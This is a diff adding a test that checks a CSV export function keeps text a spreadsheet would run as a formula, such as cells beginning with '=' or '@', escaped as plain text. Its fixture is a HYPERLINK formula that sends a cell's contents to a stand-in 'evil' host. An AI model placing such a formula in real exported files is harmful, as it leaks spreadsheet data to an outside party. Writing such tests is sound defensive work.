@@ -706,3 +706,12 @@ def test_the_json_examples_in_docs_metrics_md_have_the_reports_shapes(view, app)
             for row in (*example["rows"], *answer["rows"]):
                 row["details"] = {}
         assert shape(example) == shape(answer), name
+
+
+def test_typed_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text_in_a_csv():
+    from application.reporting import csv_text
+
+    text = csv_text([{"note": '=HYPERLINK("http://evil/"&A1,"click")', "days": -3,
+                      "who": "@pilot", "plain": "a visit"}])
+    header, row = text.splitlines()
+    assert row.startswith("\"'=HYPERLINK(") and ",-3,'@pilot,a visit" in row
